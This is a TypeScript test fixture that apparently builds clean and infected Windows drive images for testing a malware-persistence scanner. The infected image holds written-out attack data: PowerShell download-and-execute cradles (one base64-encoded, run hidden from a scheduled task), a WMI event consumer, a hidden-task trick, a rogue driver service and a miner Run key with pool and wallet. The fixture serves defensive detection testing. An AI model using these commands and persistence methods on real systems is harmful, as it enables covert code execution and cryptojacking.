// Builds a Windows system drive tree for the tests of issue 14 (source §4.2, §4.3, §4.5, §3.9): hives
// merged from .reg text by `hivexregedit`, task XML as Windows writes it, a WMI repository holding
// subscription records (the WMI reader's encoder), inert PE stubs and the Fonts folders.
// The infected volume plants one object per case of the source (driver service hy5.5 and its
// random-named driver in Temp, a Run key starting a typosquatted miner, a hidden task left in the
// TaskCache without its SD, an encoded-PowerShell task, a task starting win1logon.exe, a WMI
// CommandLineEventConsumer, the Fonts folders arial/Logs/temp/ttf with a miner in them); the clean
// twin is the same stock layout without them. Nothing here runs: the PE files only return.
import { mkdir, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { mergeReg, reg } from '../../src/target/windows/registry/test-helpers.js';
import { encodeWmiInstance, type InstanceValue } from '../../src/target/windows/wmi-repository.js';
import { MONERO_WALLET } from './image-snapshot-builders.js';
import { peStub, type PeStubOptions } from './pe-stub.js';

/** The driver file's random-looking name, fixed so every run plants the same volume. */
export const DRIVER_NAME = 'xk7qz3vd.sys';

/** The script the SyncTask's `-enc` carries: a download cradle to this host, run by IEX. */
export const CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://127.0.0.1/x.ps1')";
/** `-EncodedCommand` takes base64 of UTF-16LE text. */
export const CRADLE_B64 = Buffer.from(CRADLE, 'utf16le').toString('base64');

/** The Run value's command line: the typosquatted miner with pool and wallet arguments. */
export const RUN_COMMAND = `C:\\ProgramData\\WindowsUpdate\\wuauc1t.exe -o pool.minexmr.com:4444 -u ${MONERO_WALLET} -p x`;

/** The WMI consumer's command line: hidden PowerShell fetching a script from this host. */
export const WMI_COMMAND =
  'powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'http://127.0.0.1/w.ps1\')"';

/**
 * What the infected volume plants, with the names a finding's evidence must carry. `files` are
 * slash-separated paths relative to the volume root.
 */
export const PLANTED = {
  driverService: {
    service: 'hy5.5',
    key: 'HKLM\\SYSTEM\\ControlSet001\\Services\\hy5.5',
    imagePath: `\\??\\C:\\Windows\\Temp\\${DRIVER_NAME}`,
    file: `Windows/Temp/${DRIVER_NAME}`,
  },
  runKey: {
    key: 'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run',
    value: 'WindowsUpdateSvc',
    file: 'ProgramData/WindowsUpdate/wuauc1t.exe',
  },
  hiddenTask: {
    path: '\\Microsoft\\Windows\\Maintenance\\SvcHostCheck',
    id: '{6F1A2B3C-4D5E-4F60-8A7B-9C0D1E2F3A4B}',
    command: 'C:\\Windows\\Fonts\\temp\\win1logon.exe',
  },
  encodedTask: {
    path: '\\Microsoft\\Windows\\Update\\SyncTask',
    id: '{0B8E4C2D-7A91-4E3F-B5D6-1C2A3E4F5061}',
    file: 'Windows/System32/Tasks/Microsoft/Windows/Update/SyncTask',
  },
  typosquatTask: {
    path: '\\WinLogonCheck',
    id: '{9D3C1B2A-8E7F-4A6B-9C5D-2E1F0A9B8C7D}',
    file: 'Windows/System32/Tasks/WinLogonCheck',
  },
  typosquat: { file: 'Windows/Fonts/temp/win1logon.exe', name: 'win1logon.exe' },
  wmi: { consumer: 'SysUpdater', filter: 'SysUpdaterFilter' },
  fontsDirs: ['arial', 'Logs', 'temp', 'ttf'],
  /** Files the content rules match as an open-source miner (XMRig strings, an XMRig config). */
  minerFiles: [
    'Windows/Fonts/arial/fontcache.exe',
    'Windows/Fonts/ttf/config.json',
    'ProgramData/WindowsUpdate/wuauc1t.exe',
  ],
} as const;

export interface WindowsVolumeOptions {
  infected: boolean;
}

// ---- files ----

async function put(root: string, rel: string, data: Buffer | string): Promise<void> {
  const file = path.join(root, ...rel.split('/'));
  await mkdir(path.dirname(file), { recursive: true });
  await writeFile(file, data);
}

const MICROSOFT = 'Microsoft Corporation';
const WINDOWS = 'Microsoft® Windows® Operating System';

/** A stock system binary: signed, with Microsoft's version strings. */
function stock(originalFilename: string, fileDescription: string, opts: PeStubOptions = {}): Buffer {
  return peStub({
    signed: true,
    ...opts,
    version: {
      CompanyName: MICROSOFT,
      ProductName: WINDOWS,
      FileDescription: fileDescription,
      OriginalFilename: originalFilename,
    },
  });
}

/** Strings XMRig's binary carries (MH_XMRig_Miner: its name and donation host with its options). */
const MINER_STRINGS = [
  'XMRig/6.21.0',
  'donate.v2.xmrig.com',
  '--donate-level',
  '--randomx-1gb-pages',
  '--cpu-max-threads-hint',
  'stratum+tcp://',
  'randomx',
  'minehunter test look-alike: harmless, runs nothing',
].join('\0');

/** An XMRig JSON configuration (MH_Config_XMRig_JSON). */
const MINER_CONFIG = `${JSON.stringify(
  {
    autosave: true,
    'donate-level': 1,
    randomx: { '1gb-pages': true },
    pools: [{ url: 'pool.minexmr.com:4444', user: MONERO_WALLET, pass: 'x', 'rig-id': 'font' }],
  },
  null,
  2,
)}\n`;

/** A file starting with the TrueType magic (00 01 00 00) and a plausible table count. */
function ttf(seed: number): Buffer {
  const b = Buffer.alloc(256, seed);
  b.writeUInt32BE(0x00010000, 0);
  b.writeUInt16BE(12, 4);
  return b;
}

const STOCK_FILES: Record<string, () => Buffer | string> = {
  'Windows/explorer.exe': () => stock('EXPLORER.EXE', 'Windows Explorer', { subsystem: 'windows-gui' }),
  'Windows/System32/svchost.exe': () => stock('svchost.exe', 'Host Process for Windows Services'),
  'Windows/System32/winlogon.exe': () =>
    stock('WINLOGON.EXE', 'Windows Logon Application', { subsystem: 'windows-gui' }),
  'Windows/System32/userinit.exe': () =>
    stock('USERINIT.EXE', 'Userinit Logon Application', { subsystem: 'windows-gui' }),
  'Windows/System32/SecurityHealthSystray.exe': () =>
    stock('SecurityHealthSystray.exe', 'Windows Security notification icon', { subsystem: 'windows-gui' }),
  'Windows/System32/defrag.exe': () => stock('Defrag.EXE', 'Disk Defragmenter Module'),
  'Windows/System32/sc.exe': () => stock('sc.exe', 'Service Control Manager Configuration Tool'),
  'Windows/System32/schedsvc.dll': () => stock('schedsvc.dll', 'Task Scheduler Service', { dll: true }),
  'Windows/System32/WindowsPowerShell/v1.0/powershell.exe': () =>
    stock('PowerShell.EXE', 'Windows PowerShell'),
  'Windows/System32/drivers/disk.sys': () => stock('disk.sys', 'PnP Disk Driver', { subsystem: 'native' }),
  'Windows/System32/drivers/tcpip.sys': () => stock('tcpip.sys', 'TCP/IP Driver', { subsystem: 'native' }),
  'ProgramData/Microsoft/Windows Defender/Platform/4.18.24090.11-0/MsMpEng.exe': () =>
    stock('MsMpEng.exe', 'Antimalware Service Executable'),
  'Users/alice/AppData/Local/Microsoft/OneDrive/OneDrive.exe': () =>
    peStub({
      signed: true,
      subsystem: 'windows-gui',
      version: {
        CompanyName: MICROSOFT,
        ProductName: 'Microsoft OneDrive',
        FileDescription: 'Microsoft OneDrive',
        OriginalFilename: 'OneDrive.exe',
      },
    }),
  'Windows/Fonts/arial.ttf': () => ttf(1),
  'Windows/Fonts/times.ttf': () => ttf(2),
  'Windows/Fonts/consola.ttf': () => ttf(3),
  'Windows/Temp/MpCmdRun.log': () =>
    'MpCmdRun: Command Line: "C:\\ProgramData\\Microsoft\\Windows Defender\\platform\\4.18.24090.11-0\\MpCmdRun.exe" SignatureUpdate\r\n',
  'Users/Public/Desktop/desktop.ini': () =>
    '\ufeff[.ShellClassInfo]\r\nLocalizedResourceName=@%SystemRoot%\\system32\\shell32.dll,-21799\r\n',
};

const PLANTED_FILES: Record<string, () => Buffer | string> = {
  [PLANTED.driverService.file]: () => peStub({ subsystem: 'native' }),
  'Windows/Fonts/arial/fontcache.exe': () => peStub({ extra: MINER_STRINGS }),
  'Windows/Fonts/ttf/config.json': () => MINER_CONFIG,
  'Windows/Fonts/Logs/update.log': () =>
    '[2026-11-30 03:14:15] new job from pool.minexmr.com:4444 diff 120001 algo rx/0\r\n',
  [PLANTED.typosquat.file]: () =>
    peStub({
      subsystem: 'windows-gui',
      version: {
        CompanyName: MICROSOFT,
        ProductName: WINDOWS,
        FileDescription: 'Windows Logon Application',
        OriginalFilename: 'winlogon.exe',
      },
    }),
  [PLANTED.runKey.file]: () =>
    peStub({
      extra: MINER_STRINGS,
      version: {
        CompanyName: MICROSOFT,
        ProductName: WINDOWS,
        FileDescription: 'Windows Update',
        OriginalFilename: 'wuauclt.exe',
      },
    }),
};

// ---- registry ----

type RegKey = [path: string, values?: Array<[name: string, encoded: string]>];

/** .reg text for `keys` under `prefix`; every parent must come before its children (hivex). */
function regText(prefix: string, keys: RegKey[]): string {
  const q = (s: string): string => `"${s.replace(/\\/g, '\\\\').replace(/"/g, '\\"')}"`;
  return keys
    .map(([p, values = []]) =>
      [`[${prefix}\\${p}]`, ...values.map(([n, v]) => `${n === '' ? '@' : q(n)}=${v}`)].join('\n'),
    )
    .join('\n\n');
}

/** Every ancestor of each key listed before it, once, in first-seen order. */
function withParents(keys: RegKey[]): RegKey[] {
  const seen = new Map<string, RegKey>();
  for (const key of keys) {
    const parts = key[0].split('\\');
    for (let i = 1; i < parts.length; i++) {
      const parent = parts.slice(0, i).join('\\');
      if (!seen.has(parent.toLowerCase())) seen.set(parent.toLowerCase(), [parent]);
    }
    const existing = seen.get(key[0].toLowerCase());
    // A key listed twice (a Tree folder shared by two tasks) keeps one value of each name.
    if (existing) {
      const values = new Map((existing[1] ?? []).map((v) => [v[0].toLowerCase(), v]));
      for (const v of key[1] ?? []) values.set(v[0].toLowerCase(), v);
      existing[1] = [...values.values()];
    } else seen.set(key[0].toLowerCase(), [key[0], key[1]]);
  }
  return [...seen.values()];
}

function hive(prefix: string, keys: RegKey[]): Buffer {
  return mergeReg(regText(prefix, withParents(keys)), prefix);
}

/** A FILETIME (100 ns since 1601) as REG_BINARY. */
function filetime(iso: string): string {
  const b = Buffer.alloc(8);
  b.writeBigUInt64LE((BigInt(Date.parse(iso)) + 11_644_473_600_000n) * 10_000n);
  return reg.binary(b);
}

/**
 * A self-relative security descriptor owned by SYSTEM whose DACL allows SYSTEM full access: what a
 * TaskCache Tree key's `SD` value holds (its absence hides the task).
 */
function taskSd(): string {
  const system = Buffer.from('010100000000000512000000', 'hex');
  const head = Buffer.alloc(20);
  head.writeUInt8(1, 0);
  head.writeUInt16LE(0x8004, 2);
  head.writeUInt32LE(20, 4);
  head.writeUInt32LE(32, 8);
  head.writeUInt32LE(44, 16);
  const acl = Buffer.from('02001c0001000000', 'hex');
  const ace = Buffer.concat([Buffer.from('00001400ff011f00', 'hex'), system]);
  return reg.binary(Buffer.concat([head, system, system, acl, ace]));
}

/** The TaskCache `Actions` value (winreg-tasks layout, version 3): one exec action. */
function taskActions(command: string, args = ''): string {
  const bstr = (s: string): Buffer => {
    const text = Buffer.from(s, 'utf16le');
    const len = Buffer.alloc(4);
    len.writeUInt32LE(text.length);
    return Buffer.concat([len, text]);
  };
  const u16 = (n: number): Buffer => {
    const b = Buffer.alloc(2);
    b.writeUInt16LE(n);
    return b;
  };
  return reg.binary(
    Buffer.concat([
      u16(3),
      bstr('Author'),
      u16(0x6666),
      bstr(''),
      bstr(command),
      bstr(args),
      bstr(''),
      u16(0),
    ]),
  );
}

const TASKCACHE = 'Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache';

interface CachedTask {
  path: string;
  id: string;
  command: string;
  args?: string;
  /** Leave the Tree key's SD out: the task is hidden from schtasks and the Task Scheduler UI. */
  noSd?: boolean;
}

/** Tree and Tasks keys of one registered task (folders of the Tree carry an SD too). */
function taskCacheKeys(task: CachedTask, index: number): RegKey[] {
  const parts = task.path.split('\\').filter(Boolean);
  const folders: RegKey[] = parts
    .slice(0, -1)
    .map((_, i) => [`${TASKCACHE}\\Tree\\${parts.slice(0, i + 1).join('\\')}`, [['SD', taskSd()]]]);
  const tree: RegKey = [
    `${TASKCACHE}\\Tree\\${parts.join('\\')}`,
    [
      ['Id', reg.sz(task.id)],
      ['Index', reg.dword(index)],
      ...(task.noSd ? [] : [['SD', taskSd()] as [string, string]]),
    ],
  ];
  const tasks: RegKey = [
    `${TASKCACHE}\\Tasks\\${task.id}`,
    [
      ['Path', reg.sz(task.path)],
      ['Actions', taskActions(task.command, task.args)],
    ],
  ];
  return [...folders, tree, tasks];
}

const STOCK_TASKS: (CachedTask & { xml: string })[] = [
  {
    path: '\\Microsoft\\Windows\\Defrag\\ScheduledDefrag',
    id: '{3C2A1B0D-5E4F-4A3B-8C9D-0E1F2A3B4C5D}',
    command: '%windir%\\system32\\defrag.exe',
    args: '-c -h -o -$',
    xml: 'Windows/System32/Tasks/Microsoft/Windows/Defrag/ScheduledDefrag',
  },
  {
    path: '\\Microsoft\\Windows\\Time Synchronization\\SynchronizeTime',
    id: '{A1B2C3D4-E5F6-4A5B-9C8D-7E6F5A4B3C2D}',
    command: '%windir%\\system32\\sc.exe',
    args: 'start w32time task_started',
    xml: 'Windows/System32/Tasks/Microsoft/Windows/Time Synchronization/SynchronizeTime',
  },
];

function systemHive(infected: boolean): Buffer {
  const svc = 'ControlSet001\\Services';
  const keys: RegKey[] = [
    [
      'Select',
      [
        ['Current', reg.dword(1)],
        ['Default', reg.dword(1)],
        ['Failed', reg.dword(0)],
        ['LastKnownGood', reg.dword(1)],
      ],
    ],
    ['ControlSet001\\Control\\ComputerName\\ComputerName', [['ComputerName', reg.sz('WIN-FIXTURE')]]],
    ['ControlSet001\\Control\\Windows', [['ShutdownTime', filetime('2026-11-30T18:05:00Z')]]],
    [
      `${svc}\\disk`,
      [
        ['Type', reg.dword(1)],
        ['Start', reg.dword(0)],
        ['ErrorControl', reg.dword(1)],
        ['Group', reg.sz('SCSI Class')],
        ['ImagePath', reg.expandSz('System32\\drivers\\disk.sys')],
        ['DisplayName', reg.sz('Disk Driver')],
      ],
    ],
    [
      `${svc}\\Tcpip`,
      [
        ['Type', reg.dword(1)],
        ['Start', reg.dword(0)],
        ['ErrorControl', reg.dword(3)],
        ['ImagePath', reg.expandSz('System32\\drivers\\tcpip.sys')],
        ['DisplayName', reg.sz('TCP/IP Protocol Driver')],
      ],
    ],
    [
      `${svc}\\WinDefend`,
      [
        ['Type', reg.dword(0x10)],
        ['Start', reg.dword(2)],
        ['ErrorControl', reg.dword(1)],
        [
          'ImagePath',
          reg.expandSz(
            '"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MsMpEng.exe"',
          ),
        ],
        ['DisplayName', reg.sz('Microsoft Defender Antivirus Service')],
        ['ObjectName', reg.sz('LocalSystem')],
      ],
    ],
    [
      `${svc}\\Schedule`,
      [
        ['Type', reg.dword(0x20)],
        ['Start', reg.dword(2)],
        ['ErrorControl', reg.dword(1)],
        ['ImagePath', reg.expandSz('%systemroot%\\system32\\svchost.exe -k netsvcs -p')],
        ['DisplayName', reg.sz('Task Scheduler')],
        ['ObjectName', reg.sz('LocalSystem')],
      ],
    ],
    [`${svc}\\Schedule\\Parameters`, [['ServiceDll', reg.expandSz('%systemroot%\\system32\\schedsvc.dll')]]],
  ];
  if (infected)
    keys.push([
      `${svc}\\hy5.5`,
      [
        ['Type', reg.dword(1)],
        ['Start', reg.dword(1)],
        ['ErrorControl', reg.dword(1)],
        ['ImagePath', reg.expandSz(PLANTED.driverService.imagePath)],
        ['DisplayName', reg.sz('hy5.5')],
      ],
    ]);
  return hive('HKEY_LOCAL_MACHINE\\SYSTEM', keys);
}

function plantedTasks(): CachedTask[] {
  return [
    { ...PLANTED.hiddenTask, noSd: true },
    {
      path: PLANTED.encodedTask.path,
      id: PLANTED.encodedTask.id,
      command: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      args: `-nop -w hidden -enc ${CRADLE_B64}`,
    },
    { path: PLANTED.typosquatTask.path, id: PLANTED.typosquatTask.id, command: PLANTED.hiddenTask.command },
  ];
}

function softwareHive(infected: boolean): Buffer {
  const cv = 'Microsoft\\Windows NT\\CurrentVersion';
  const run: Array<[string, string]> = [
    ['SecurityHealth', reg.expandSz('%windir%\\system32\\SecurityHealthSystray.exe')],
  ];
  if (infected) run.push([PLANTED.runKey.value, reg.sz(RUN_COMMAND)]);
  const tasks = [...STOCK_TASKS, ...(infected ? plantedTasks() : [])];
  const keys: RegKey[] = [
    [
      cv,
      [
        ['ProductName', reg.sz('Windows 10 Pro')],
        ['EditionID', reg.sz('Professional')],
        ['CurrentBuild', reg.sz('19045')],
        ['CurrentBuildNumber', reg.sz('19045')],
        ['DisplayVersion', reg.sz('22H2')],
      ],
    ],
    [
      `${cv}\\Winlogon`,
      [
        ['Shell', reg.sz('explorer.exe')],
        ['Userinit', reg.sz('C:\\Windows\\system32\\userinit.exe,')],
      ],
    ],
    // AppInit_DLLs exists and is empty on a stock system.
    [
      `${cv}\\Windows`,
      [
        ['AppInit_DLLs', reg.sz('')],
        ['LoadAppInit_DLLs', reg.dword(0)],
      ],
    ],
    [`${cv}\\Image File Execution Options`],
    [`${cv}\\Image File Execution Options\\taskmgr.exe`, [['UseFilter', reg.dword(0)]]],
    ['Microsoft\\Windows\\CurrentVersion\\Run', run],
    ['Microsoft\\Windows\\CurrentVersion\\RunOnce'],
    ['WOW6432Node\\Microsoft\\Windows\\CurrentVersion\\Run'],
    [`${TASKCACHE}\\Tree`],
    [`${TASKCACHE}\\Tasks`],
    ...tasks.flatMap((task, i) => taskCacheKeys(task, i + 1)),
  ];
  return hive('HKEY_LOCAL_MACHINE\\SOFTWARE', keys);
}

function ntuserHive(): Buffer {
  return hive('HKEY_CURRENT_USER', [
    [
      'Software\\Microsoft\\Windows\\CurrentVersion\\Run',
      [
        [
          'OneDrive',
          reg.sz('"C:\\Users\\alice\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe" /background'),
        ],
      ],
    ],
    ['Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce'],
    ['Environment', [['TEMP', reg.expandSz('%USERPROFILE%\\AppData\\Local\\Temp')]]],
  ]);
}

// ---- scheduled tasks ----

const xmlEscape = (s: string): string =>
  s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');

interface TaskXmlSpec {
  uri: string;
  author: string;
  description?: string;
  date: string;
  triggers: string;
  userId: string;
  runLevel?: string;
  hidden?: boolean;
  command: string;
  args?: string;
  encoding: 'UTF-16' | 'UTF-8';
}

/** A task file as the Task Scheduler writes it (schema 1.2). */
function taskXml(t: TaskXmlSpec): string {
  return `<?xml version="1.0" encoding="${t.encoding}"?>
<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">
  <RegistrationInfo>
    <Date>${t.date}</Date>
    <Author>${xmlEscape(t.author)}</Author>${t.description ? `\n    <Description>${xmlEscape(t.description)}</Description>` : ''}
    <URI>${xmlEscape(t.uri)}</URI>
  </RegistrationInfo>
  <Triggers>
${t.triggers}
  </Triggers>
  <Principals>
    <Principal id="Author">
      <UserId>${t.userId}</UserId>${t.runLevel ? `\n      <RunLevel>${t.runLevel}</RunLevel>` : ''}
    </Principal>
  </Principals>
  <Settings>
    <MultipleInstancesPolicy>IgnoreNew</MultipleInstancesPolicy>
    <DisallowStartIfOnBatteries>false</DisallowStartIfOnBatteries>
    <StopIfGoingOnBatteries>false</StopIfGoingOnBatteries>
    <Hidden>${t.hidden ?? false}</Hidden>
    <Enabled>true</Enabled>
  </Settings>
  <Actions Context="Author">
    <Exec>
      <Command>${xmlEscape(t.command)}</Command>${t.args ? `\n      <Arguments>${xmlEscape(t.args)}</Arguments>` : ''}
    </Exec>
  </Actions>
</Task>
`.replace(/\n/g, '\r\n');
}

/** UTF-16LE with a BOM, as Windows writes task files. */
const utf16leBom = (s: string): Buffer =>
  Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(s, 'utf16le')]);

const WEEKLY = `    <CalendarTrigger>
      <StartBoundary>2026-01-01T01:00:00</StartBoundary>
      <ScheduleByWeek><WeeksInterval>1</WeeksInterval><DaysOfWeek><Wednesday /></DaysOfWeek></ScheduleByWeek>
    </CalendarTrigger>`;

function stockTaskFiles(): Record<string, Buffer> {
  const [defrag, time] = STOCK_TASKS as [CachedTask & { xml: string }, CachedTask & { xml: string }];
  return {
    [defrag.xml]: utf16leBom(
      taskXml({
        uri: defrag.path,
        author: '$(@%SystemRoot%\\system32\\defragsvc.dll,-801)',
        description: '$(@%SystemRoot%\\system32\\defragsvc.dll,-802)',
        date: '2019-12-07T09:09:56',
        triggers: WEEKLY,
        userId: 'S-1-5-18',
        command: defrag.command,
        args: defrag.args,
        encoding: 'UTF-16',
      }),
    ),
    [time.xml]: utf16leBom(
      taskXml({
        uri: time.path,
        author: '$(@%SystemRoot%\\system32\\w32time.dll,-202)',
        date: '2019-12-07T09:09:56',
        triggers: WEEKLY,
        userId: 'S-1-5-19',
        command: time.command,
        args: time.args,
        encoding: 'UTF-16',
      }),
    ),
  };
}

function plantedTaskFiles(): Record<string, Buffer> {
  return {
    [PLANTED.encodedTask.file]: utf16leBom(
      taskXml({
        uri: PLANTED.encodedTask.path,
        author: 'Microsoft Corporation',
        description: 'Keeps Windows Update components in sync.',
        date: '2026-11-30T03:14:15',
        triggers: `    <BootTrigger><Enabled>true</Enabled></BootTrigger>
    <TimeTrigger>
      <Repetition><Interval>PT30M</Interval><StopAtDurationEnd>false</StopAtDurationEnd></Repetition>
      <StartBoundary>2026-11-30T03:15:00</StartBoundary>
      <Enabled>true</Enabled>
    </TimeTrigger>`,
        userId: 'S-1-5-18',
        runLevel: 'HighestAvailable',
        hidden: true,
        command: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
        args: `-nop -w hidden -enc ${CRADLE_B64}`,
        encoding: 'UTF-16',
      }),
    ),
    // Written by a dropper's own code rather than by the Task Scheduler: UTF-8, no BOM.
    [PLANTED.typosquatTask.file]: Buffer.from(
      taskXml({
        uri: PLANTED.typosquatTask.path,
        author: 'WORKGROUP\\admin',
        date: '2026-11-30T03:14:20',
        triggers: '    <LogonTrigger><Enabled>true</Enabled></LogonTrigger>',
        userId: 'S-1-5-18',
        runLevel: 'HighestAvailable',
        command: PLANTED.hiddenTask.command,
        encoding: 'UTF-8',
      }),
      'utf8',
    ),
  };
}

// ---- WMI repository ----

const ADMINISTRATORS_SID = Buffer.from('01020000000000052000000020020000', 'hex');

interface Subscription {
  consumerClass: 'CommandLineEventConsumer' | 'NTEventLogEventConsumer';
  consumer: Record<string, InstanceValue>;
  filter: Record<string, InstanceValue> & { Name: string };
}

/**
 * The filter, consumer and binding instance records, laid out by the WMI reader's own encoder
 * (src/target/windows/wmi-repository.ts, after python-cim and WMIParser).
 */
function subscriptionRecords(s: Subscription): Buffer[] {
  const time = new Date('2026-11-30T03:14:30Z');
  return [
    encodeWmiInstance('__EventFilter', { CreatorSID: ADMINISTRATORS_SID, ...s.filter }, { time }),
    encodeWmiInstance(s.consumerClass, { CreatorSID: ADMINISTRATORS_SID, ...s.consumer }, { time }),
    encodeWmiInstance(
      '__FilterToConsumerBinding',
      {
        Filter: `__EventFilter.Name="${s.filter.Name}"`,
        Consumer: `${s.consumerClass}.Name="${String(s.consumer.Name)}"`,
        CreatorSID: ADMINISTRATORS_SID,
      },
      { time },
    ),
  ];
}

/** The subscription every Windows install has (PyWMIPersistenceFinder lists it as known good). */
const SCM_SUBSCRIPTION: Subscription = {
  consumerClass: 'NTEventLogEventConsumer',
  consumer: {
    Name: 'SCM Event Log Consumer',
    SourceName: 'Service Control Manager',
    EventID: 0,
    Category: 0,
    InsertionStringTemplates: [''],
  },
  filter: {
    Name: 'SCM Event Log Filter',
    QueryLanguage: 'WQL',
    Query: 'select * from MSFT_SCMEventLogEvent',
    EventNamespace: 'root\\cimv2',
  },
};

const PLANTED_SUBSCRIPTION: Subscription = {
  consumerClass: 'CommandLineEventConsumer',
  consumer: {
    Name: PLANTED.wmi.consumer,
    CommandLineTemplate: WMI_COMMAND,
    KillTimeout: 0,
    RunInteractively: false,
  },
  filter: {
    Name: PLANTED.wmi.filter,
    QueryLanguage: 'WQL',
    Query:
      "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System' AND TargetInstance.SystemUpTime >= 240 AND TargetInstance.SystemUpTime < 325",
    EventNamespace: 'root\\cimv2',
  },
};

const WMI_PAGE = 8192;

/** A page of the file: zero-filled, ending in the byte 0x0A as pages of real repositories often do. */
function wmiPage(records: Buffer[] = []): Buffer {
  const page = Buffer.alloc(WMI_PAGE);
  let at = 64;
  for (const record of records) {
    record.copy(page, at);
    at += record.length + 16;
  }
  page[WMI_PAGE - 1] = 0x0a;
  return page;
}

/**
 * OBJECTS.DATA: one page per subscription between empty pages. PyWMIPersistenceFinder reads the
 * file as "lines" four at a time, so each subscription's page is one line with enough lines around
 * it to be read alone.
 */
function objectsData(subscriptions: Subscription[]): Buffer {
  return Buffer.concat([
    wmiPage(),
    wmiPage(),
    ...subscriptions.map((s) => wmiPage(subscriptionRecords(s))),
    wmiPage(),
    wmiPage(),
    wmiPage(),
  ]);
}

// ---- the volume ----

/**
 * Lays out a Windows system drive in `dir` (which must exist): the hives, system binaries, fonts,
 * stock tasks with their TaskCache entries and the stock WMI subscription; with `infected`, the
 * planted objects of PLANTED as well.
 */
export async function buildWindowsVolume(dir: string, { infected }: WindowsVolumeOptions): Promise<void> {
  await put(dir, 'Windows/System32/config/SYSTEM', systemHive(infected));
  await put(dir, 'Windows/System32/config/SOFTWARE', softwareHive(infected));
  await put(dir, 'Users/alice/NTUSER.DAT', ntuserHive());
  const files = { ...STOCK_FILES, ...(infected ? PLANTED_FILES : {}) };
  for (const [rel, make] of Object.entries(files)) await put(dir, rel, make());
  const tasks = { ...stockTaskFiles(), ...(infected ? plantedTaskFiles() : {}) };
  for (const [rel, data] of Object.entries(tasks)) await put(dir, rel, data);
  await put(
    dir,
    'Windows/System32/wbem/Repository/OBJECTS.DATA',
    objectsData([SCM_SUBSCRIPTION, ...(infected ? [PLANTED_SUBSCRIPTION] : [])]),
  );
  await mkdir(path.join(dir, 'Windows', 'System32', 'wbem', 'AutoRecover'), { recursive: true });
}
